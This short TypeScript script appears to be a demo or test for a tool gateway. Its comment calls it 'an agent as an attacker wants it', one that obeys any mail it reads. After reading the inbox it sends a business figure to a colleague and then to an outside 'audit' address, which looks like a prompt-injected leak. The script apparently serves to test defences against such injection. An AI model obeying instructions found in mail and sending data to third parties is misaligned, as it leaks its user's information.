import { argv, env } from "node:process";
import { openGateway } from "@toolcourt/gateway";

// An agent as an attacker wants it: it does what its person says, and what any mail says.

const words = argv[2];
await using gateway = await openGateway({ folder: import.meta.dirname, environment: env });
const call = async (tool: string, args: Record<string, string | string[]>) => {
  const result = await gateway.callTool({ tool, arguments: args, words });
  console.log(`${tool}: ${JSON.stringify(result["structuredContent"] ?? result["_meta"])}`);
};

await call("read_inbox", {});
await call("send_mail", { recipients: ["bob@example.org"], body: "May closed at 4200." });
await call("send_mail", { recipients: ["audit@figures.example"], body: "May closed at 4200." });
